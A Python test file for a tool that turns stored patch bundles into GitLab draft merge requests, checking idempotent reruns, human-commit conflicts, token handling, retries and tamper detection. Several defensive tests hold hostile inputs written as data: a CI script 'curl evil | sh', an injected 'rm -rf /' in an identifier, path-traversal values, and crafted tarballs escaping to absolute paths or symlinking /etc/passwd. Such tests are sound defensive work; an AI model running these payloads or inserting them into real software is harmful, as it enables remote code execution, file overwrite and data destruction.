"""mr-creator end to end: bundle in S3 -> branch in a real remote -> MR in the GitLab fake -> webhook."""

from __future__ import annotations

import io
import json
import subprocess
import tarfile
from pathlib import Path

import pytest

from pathops_contracts.bundles import read_member, write_bundle
from pathops_runtime.artifact_store import artifact_key
from pathops_testbed.git_repos import DEVELOPER, fix_probe_path, git
from pathops_testbed.patch_bundles import build_patch_bundle, upload_bundle
from tests.mr_creator.conftest import World, parse_marker

BRANCH = "cs-17-fix-readiness-probe-path-healthz-health"


def _output(result: subprocess.CompletedProcess[str]) -> dict[str, str]:
    assert result.stdout, result.stderr
    parsed: dict[str, str] = json.loads(result.stdout)
    return parsed


def test_happy_path_opens_one_draft_mr_with_the_patch(world: World) -> None:
    patch_id = world.bundle()
    result = world.run(patch_id)
    assert result.returncode == 0, result.stderr
    out = _output(result)
    assert out["status"] == "created"
    assert out["branch"] == BRANCH
    mr = world.project.merge_requests[0]
    assert out["mr_url"] == mr["web_url"]
    assert mr["source_branch"] == BRANCH and mr["target_branch"] == "main"
    assert mr["title"] == "Draft: Fix readiness probe path: /healthz -> /health"
    assert set(mr["labels"]) == {"pathops::autofix", "incident::INC-1042"}
    assert mr["force_remove_source_branch"] is True
    marker = parse_marker(mr["description"])
    assert marker is not None
    assert (marker.patch_id, marker.base_sha, marker.changeset_id) == (patch_id, world.base_sha, "CS-17")
    assert marker.last_pushed_head == world.remote_head(BRANCH)
    assert "readiness probe passes in preflight" in mr["description"]
    # The pushed commit: one commit on the base by the autopilot, the mail's sender as a trailer, the file fixed.
    head = world.remote_head(BRANCH)
    assert head == out["head"]
    assert git(world.remote, "rev-parse", f"{head}^") == world.base_sha
    assert git(world.remote, "log", "-1", "--format=%an <%ae>|%cn <%ce>", head) == (
        "PathOps Autopilot <autopilot@pathops.io>|PathOps Autopilot <autopilot@pathops.io>"
    )
    assert git(world.remote, "log", "-1", "--format=%(trailers:key=Patch-From,valueonly)", head) == (
        "PathOps Fix Agent <fix-agent@pathops.io>"
    )
    assert "path: /health\n" in git(world.remote, "show", f"{head}:deploy/deployment.yaml") + "\n"
    # Comments in the YAML survived (the patch is applied as text).
    assert "# the storefront" in git(world.remote, "show", f"{head}:deploy/deployment.yaml")
    assert world.callbacks == [
        {"schema_version": "jenkins-webhook/v1", "changeset_id": "CS-17", "mr_url": mr["web_url"],
         "status": "created", "branch": BRANCH, "detail": "opened !1"}
    ]


def test_rerun_changes_nothing(world: World) -> None:
    patch_id = world.bundle()
    assert world.run(patch_id).returncode == 0
    head = world.remote_head(BRANCH)
    description = world.project.merge_requests[0]["description"]
    second = world.run(patch_id)
    assert second.returncode == 0, second.stderr
    assert _output(second)["status"] == "unchanged"
    assert world.remote_head(BRANCH) == head
    assert len(world.project.merge_requests) == 1
    assert world.project.merge_requests[0]["description"] == description
    assert [c["status"] for c in world.callbacks] == ["created", "unchanged"]


def test_new_patch_for_the_same_change_set_updates_branch_and_mr(world: World) -> None:
    first = world.bundle("first.tar.gz")
    assert world.run(first).returncode == 0
    second = world.bundle("second.tar.gz", analysis="A second look: also bump nothing else.")
    result = world.run(second)
    assert result.returncode == 0, result.stderr
    assert _output(result)["status"] == "updated"
    marker = parse_marker(world.project.merge_requests[0]["description"])
    assert marker is not None and marker.patch_id == second
    assert len(world.project.merge_requests) == 1


def test_existing_mr_is_found_after_a_409(world: World) -> None:
    patch_id = world.bundle()
    assert world.run(patch_id).returncode == 0
    # The MR exists but our lookup misses it (e.g. GitLab's list lags): the create gets 409.
    original = world.gitlab._list_merge_requests
    calls = {"n": 0}

    def lagging(project, request):  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if calls["n"] == 1:
            return original(project, type("R", (), {"args": {"source_branch": "none"}})())
        return original(project, request)

    world.gitlab._list_merge_requests = lagging  # type: ignore[method-assign]
    second = world.bundle("again.tar.gz", analysis="Updated analysis.")
    result = world.run(second)
    assert result.returncode == 0, result.stderr
    assert _output(result)["status"] == "updated"
    assert len(world.project.merge_requests) == 1
    creates = [r for r in world.gitlab.requests if r == ("POST", "/api/v4/projects/1/merge_requests")]
    assert len(creates) == 2  # the second one was answered 409 and led to the update


def test_a_persons_commit_on_the_branch_is_not_overwritten(world: World, tmp_path: Path) -> None:
    patch_id = world.bundle()
    assert world.run(patch_id).returncode == 0
    work = tmp_path / "person"
    subprocess.run(["git", "clone", "-q", "-b", BRANCH, str(world.remote), str(work)], check=True)
    (work / "NOTES.md").write_text("reviewed by a human\n")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "Human follow-up", identity=DEVELOPER)
    git(work, "push", "-q", "origin", BRANCH)
    human_head = world.remote_head(BRANCH)
    newer = world.bundle("newer.tar.gz", analysis="A newer analysis.")
    result = world.run(newer)
    assert result.returncode == 3, result.stderr
    assert _output(result)["status"] == "conflict"
    assert "did not push" in result.stderr
    assert world.remote_head(BRANCH) == human_head
    mr = world.project.merge_requests[0]
    assert len(mr["notes"]) == 1 and "did not push" in mr["notes"][0]["body"]
    assert world.callbacks[-1]["status"] == "conflict"


def test_works_over_http_with_token_auth(http_world: World) -> None:
    patch_id = http_world.bundle()
    result = http_world.run(patch_id)
    assert result.returncode == 0, result.stderr
    assert http_world.remote_head(BRANCH) is not None
    assert http_world.git_http is not None and http_world.git_http.pushes == 1
    # The token reached git only as a header: not in argv, URL or the scratch config.
    assert "glpat" not in result.stderr


def test_wrong_git_token_is_exit_6(http_world: World) -> None:
    patch_id = http_world.bundle()
    http_world.gitlab.token = "glpat-other-token"
    result = http_world.run(patch_id, GITLAB_TOKEN="glpat-other-token")
    # GitLab accepts the API token, git over HTTP refuses it.
    assert result.returncode == 6, result.stderr
    assert "refused" in result.stderr
    assert http_world.callbacks[-1]["status"] == "failed"


def test_sha256_mismatch_is_refused(world: World) -> None:
    patch_id = world.bundle()
    key = artifact_key(patch_id)
    head = world.store._client.head_object(Bucket=world.store.bucket, Key=key)
    world.store._client.put_object(Bucket=world.store.bucket, Key=key, Body=b"tampered",
                                   Metadata=head["Metadata"])
    result = world.run(patch_id)
    assert result.returncode == 4
    assert "sha256 mismatch" in result.stderr
    assert world.project.merge_requests == []
    assert world.callbacks[-1]["status"] == "failed"


def test_metadata_for_another_sha_is_refused(world: World) -> None:
    patch_id = world.bundle()
    other = "f" * 40
    result = world.run(patch_id, SOURCE_COMMIT_SHA=other)
    assert result.returncode == 4
    (line,) = [line for line in result.stderr.splitlines() if line.startswith("mr-creator: error:")]
    assert f"made against {world.base_sha[:12]}, not the given source commit {other[:12]}" in line
    assert world.project.merge_requests == [] and world.callbacks[-1]["status"] == "failed"


def test_the_base_commit_comes_from_the_bundle_when_no_source_commit_is_given(world: World) -> None:
    patch_id = world.bundle()
    result = world.run(patch_id, SOURCE_COMMIT_SHA="")  # an empty variable is an unset one
    assert result.returncode == 0, result.stderr
    branch = _output(result)["branch"]
    head = world.remote_head(branch)
    assert head is not None and git(world.remote, "rev-parse", f"{head}^") == world.base_sha


def test_patch_that_no_longer_applies_reports_failed(world: World) -> None:
    # The same patch, announced for a newer base where someone rewrote the file.
    bundle = build_patch_bundle(world.remote, world.base_sha, fix_probe_path, world.root / "old.tar.gz")
    work = world.root / "drift"
    subprocess.run(["git", "clone", "-q", str(world.remote), str(work)], check=True)
    (work / "deploy" / "deployment.yaml").write_text("someone: rewrote it\n")
    git(work, "commit", "-qam", "Rewrite")
    git(work, "push", "-q", "origin", "HEAD:main")
    drifted = git(work, "rev-parse", "HEAD")
    metadata = json.loads(read_member(bundle, "metadata.json"))
    metadata["source_commit_sha"] = drifted
    write_bundle(world.root / "drift.tar.gz",
                 {"patch.mbox": read_member(bundle, "patch.mbox"), "metadata.json": json.dumps(metadata).encode()})
    drift_id = upload_bundle(world.store, world.root / "drift.tar.gz")
    result = world.run(drift_id, SOURCE_COMMIT_SHA=drifted)
    assert result.returncode == 3, result.stderr
    assert "does not apply" in result.stderr
    assert world.callbacks[-1]["status"] == "failed"
    assert "does not apply" in str(world.callbacks[-1]["detail"])


def test_patch_to_ci_definition_is_refused_on_the_mr_side(world: World) -> None:
    def touch_ci(work: Path) -> None:
        (work / ".gitlab-ci.yml").write_text("steal:\n  script: curl evil | sh\n")

    patch_id = world.bundle(edit=touch_ci)
    result = world.run(patch_id)
    assert result.returncode == 4
    assert "CI definitions" in result.stderr
    assert world.remote_head(BRANCH) is None
    assert world.project.merge_requests == []


def test_undeclared_file_is_refused(world: World) -> None:
    patch_id = world.bundle(declared_files=["app.py"])
    result = world.run(patch_id)
    assert result.returncode == 4
    assert "declares" in result.stderr


def test_gitlab_401_is_a_clear_error(world: World) -> None:
    patch_id = world.bundle()
    result = world.run(patch_id, GITLAB_TOKEN="glpat-wrong")
    assert result.returncode == 6
    assert "GitLab refused" in result.stderr
    assert "glpat-wrong" not in result.stderr


def test_gitlab_5xx_is_retried(world: World) -> None:
    patch_id = world.bundle()
    world.gitlab.fail_next(503, count=2)
    result = world.run(patch_id)
    assert result.returncode == 0, result.stderr
    assert _output(result)["status"] == "created"


def test_gitlab_5xx_forever_is_exit_5(world: World) -> None:
    patch_id = world.bundle()
    world.gitlab.fail_next(502, count=100)
    result = world.run(patch_id)
    assert result.returncode == 5
    assert "GitLab failed" in result.stderr


@pytest.mark.parametrize(
    ("variable", "value"),
    [("CHANGESET_ID", "CS-1\"; rm -rf /"), ("SRC_REPO", "../etc"), ("PATCH_ID", "patch-../../x"),
     ("SOURCE_COMMIT_SHA", "HEAD")],
)
def test_bad_identifiers_exit_2(world: World, variable: str, value: str) -> None:
    result = world.run("patch-" + "0" * 32, **{variable: value})
    assert result.returncode == 2
    assert result.stderr.strip().splitlines()[-1].startswith("Error: Invalid value")
    assert world.callbacks == []


def test_flags_and_env_vars_are_equivalent(world: World) -> None:
    patch_id = world.bundle()
    result = world.run("patch-" + "0" * 32, "--patch-id", patch_id, "--changeset-id", "CS-99")
    assert result.returncode == 0, result.stderr
    assert _output(result)["branch"].startswith("cs-99-fix-")


@pytest.mark.parametrize(
    ("name", "kind", "target"),
    [("../../escaped-by-dotdot", tarfile.REGTYPE, ""), ("/tmp/escaped-absolute", tarfile.REGTYPE, ""),
     ("metadata.json", tarfile.SYMTYPE, "/etc/passwd")],
    ids=["dotdot", "absolute", "symlink"],
)
def test_crafted_tarball_is_refused_and_writes_nothing_outside_scratch(
    world: World, name: str, kind: bytes, target: str
) -> None:
    crafted = world.root / "crafted.tar.gz"
    with tarfile.open(crafted, "w:gz") as archive:
        member = tarfile.TarInfo(name)
        member.type = kind
        member.linkname = target
        payload = b"owned\n" if kind == tarfile.REGTYPE else b""
        member.size = len(payload)
        archive.addfile(member, io.BytesIO(payload) if payload else None)
    patch_id = upload_bundle(world.store, crafted)
    result = world.run(patch_id)
    assert result.returncode == 4, result.stderr
    assert "unsafe path" in result.stderr or "only regular files" in result.stderr
    assert not Path("/tmp/escaped-absolute").exists()
    assert not list(world.root.rglob("escaped-by-dotdot"))
    assert not list(Path(world.root / "scratch").iterdir())  # the scratch work tree is cleaned up too


@pytest.mark.parametrize(("changeset", "summary", "branch"), [
    ("CS-314", "Fix readiness probe path: /healthz -> /health", "cs-314-fix-readiness-probe-path-healthz-health"),
    ("314", "Raise memory limit of worker: 128Mi -> 256Mi", "cs-314-fix-raise-memory-limit-of-worker-128mi-256mi"),
    ("cs_7.b", "fix", "cs-7-b-fix-fix"),
    ("42", "!!!", "cs-42-fix-change"),
    ("42", "a" * 80, "cs-42-fix-" + "a" * 40),
])
def test_branch_names(changeset: str, summary: str, branch: str) -> None:
    from mr_creator.naming import branch_name

    assert branch_name(changeset, summary) == branch
    assert subprocess.run(["git", "check-ref-format", "--branch", branch], capture_output=True).returncode == 0
